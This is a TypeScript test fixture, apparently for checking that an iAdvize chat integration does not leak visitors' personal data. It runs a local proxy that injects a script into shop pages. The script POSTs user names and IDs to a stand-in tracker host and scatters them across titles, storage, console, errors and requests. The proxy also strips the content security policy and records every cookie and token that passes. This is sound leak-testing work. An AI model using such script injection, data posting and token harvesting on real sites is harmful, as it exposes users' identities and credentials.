/**
 * A shop that is foreign to the command, and cannot keep a name to itself: its visitor's name and user name stand in paths and
 * redirects, titles, alerts, console, page errors, rejections, requests to iAdvize and to others, addresses of scripts, policy reports, keys
 * of storage, screens of the SDK and form errors, in every encoding. It keeps every cookie and token that passes.
 */
import { createServer, request } from 'node:http'
import type { AddressInfo } from 'node:net'
import { makeKeyPair } from '../../mock-iadvize/token/keys.ts'
import { openShop, shopKeys } from '../site/shop.ts'

export const sid = '4242'

const base64 = (text: string): string[] =>
  ['', 'x', 'xy'].map(before =>
    // What stands in it however the text goes on.
    Buffer.from(before + text)
      .toString('base64')
      .replaceAll('=', '')
      .slice(before.length === 0 ? 0 : before.length + 1, -2),
  )

/** The forms in which a text may turn up. What is too short says nothing: it turns up by chance. */
export const encodingsOf = (text: string): string[] => {
  const bytes = Buffer.from(text)
  const characters = [...text]
  const code = (char: string): number => char.codePointAt(0) ?? 0
  return [
    text,
    text.toUpperCase(),
    text.toLowerCase(),
    text.normalize('NFD'),
    characters.toReversed().join(''),
    bytes.toString('hex'),
    bytes.toString('hex').toUpperCase(),
    ...base64(text),
    ...base64(text.toUpperCase()),
    encodeURIComponent(text),
    bytes.toString('hex').replaceAll(/../g, '%$&'),
    JSON.stringify(text).slice(1, -1),
    characters.map(char => `\\u${code(char).toString(16).padStart(4, '0')}`).join(''),
    characters.map(char => `&#${code(char)};`).join(''),
    characters.map(char => `&#x${code(char).toString(16)};`).join(''),
  ].filter(form => form.length >= 5)
}

/** Runs in each page, before the shop's own scripts. */
const telltale = (values: readonly string[], forms: readonly string[], title: string): string => {
  const [first = ''] = values
  const slug = encodeURIComponent(first)
  return `<script>(() => {
  const forms = ${JSON.stringify(forms).replaceAll('<', '\\u003c')}
  const values = ${JSON.stringify(values).replaceAll('<', '\\u003c')}
  document.title = ${JSON.stringify(title)}
  addEventListener('DOMContentLoaded', () => { document.title = ${JSON.stringify(title)} })
  for (const value of values) {
    localStorage.setItem('greeting of ' + value, value)
    console.log('Hello ' + value, { value })
  }
  for (let at = 0; at < forms.length; at += 12) {
    const some = forms.slice(at, at + 12).join(' , ')
    setTimeout(() => { throw new TypeError("Cannot read properties of undefined (reading '" + some + "')") })
    Promise.reject(new Error('no chat for ' + some))
  }
  fetch('https://' + btoa('greet').toLowerCase() + '-elodie.iadvize.com/graphql/${slug}?name=${slug}').catch(() => 0)
  fetch('https://api.iadvize.com/visitors/${slug}/hello').catch(() => 0)
  fetch('http://elodie.tracker.test:9/collect/${slug}?u=${slug}', { method: 'POST', body: values.join() }).catch(() => 0)
  const script = document.createElement('script')
  script.src = '/assets/${slug}/hello-elodie.js'
  document.head.append(script)
  const picture = new Image()
  picture.src = 'http://127.0.0.1:9/avatar/${slug}.png'
  ;(window.iAdvizeInterface = window.iAdvizeInterface || []).push(iAdvize => iAdvize.navigate?.('orders of ' + values[0]))
  alert('Welcome back, ' + values.join(', '))
})()</script>`
}

export type CanarySite = {
  origin: string
  shop: Awaited<ReturnType<typeof openShop>>
  keys: { brand: Awaited<ReturnType<typeof makeKeyPair>>; iAdvize: Awaited<ReturnType<typeof makeKeyPair>> }
  /** cookies and tokens that have passed */
  seen: Set<string>
  close: () => Promise<void>
}

/** `talks`: whether its pages say whose they are. */
export const openCanarySite = async (defects: string[], { talks }: { talks: boolean }): Promise<CanarySite> => {
  const [brand, iAdvize] = await Promise.all([makeKeyPair(), makeKeyPair()])
  const shop = await openShop({ keys: shopKeys(brand.privateKey, iAdvize.publicKey), sid, platform: 'halc', defects })
  const seen = new Set<string>()
  const target = new URL(shop.origin)
  const values = shop.users.flatMap(user => [user.username, user.userId ?? '', ...Object.values(user.visitorData)])
  const forms = values.flatMap(encodingsOf)
  const home = `/members/${encodeURIComponent(values[2] ?? '')}/${encodeURIComponent(values[0] ?? '')}`
  const proxy = createServer((incoming, outgoing) => {
    const passed = request(
      {
        host: target.hostname,
        port: target.port,
        path: incoming.url?.startsWith(home) ? incoming.url.slice(home.length) : incoming.url,
        method: incoming.method,
        headers: { ...incoming.headers, 'accept-encoding': 'identity' },
      },
      answer => {
        for (const cookie of answer.headers['set-cookie'] ?? []) {
          const value = /^[^=]+=([^;]*)/.exec(cookie)?.[1] ?? ''
          if (value.length > 8) seen.add(value)
        }
        const chunks: Buffer[] = []
        answer.on('data', (chunk: Buffer) => chunks.push(chunk))
        answer.on('end', () => {
          const body = Buffer.concat(chunks)
          for (const token of body.toString().match(/eyJ[\w-]+(?:\.[\w-]+){2,4}/g) ?? []) seen.add(token)
          const headers = { ...answer.headers }
          delete headers['transfer-encoding']
          delete headers['content-length']
          const isPage = /html/.test(headers['content-type'] ?? '')
          if (talks && headers.location?.startsWith('/account')) headers.location = home + headers.location
          // Its own policy forbids what it does not know.
          if (talks) delete headers['content-security-policy']
          if (talks && isPage)
            headers['content-security-policy-report-only'] =
              "img-src 'self'; connect-src 'self'; script-src-elem 'self'"
          outgoing.writeHead(answer.statusCode ?? 502, headers)
          outgoing.end(
            talks && isPage
              ? body
                  .toString()
                  .replace(/<head[^>]*>/i, head => head + telltale(values, forms, `Orders of ${values.join(' ')}`))
              : body,
          )
        })
      },
    )
    passed.on('error', () => outgoing.destroy())
    incoming.pipe(passed)
  })
  await new Promise<void>(resolve => proxy.listen(0, '127.0.0.1', resolve))
  return {
    origin: `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`,
    shop,
    keys: { brand, iAdvize },
    seen,
    close: async () => {
      proxy.closeAllConnections()
      proxy.close()
      await shop.close()
    },
  }
}
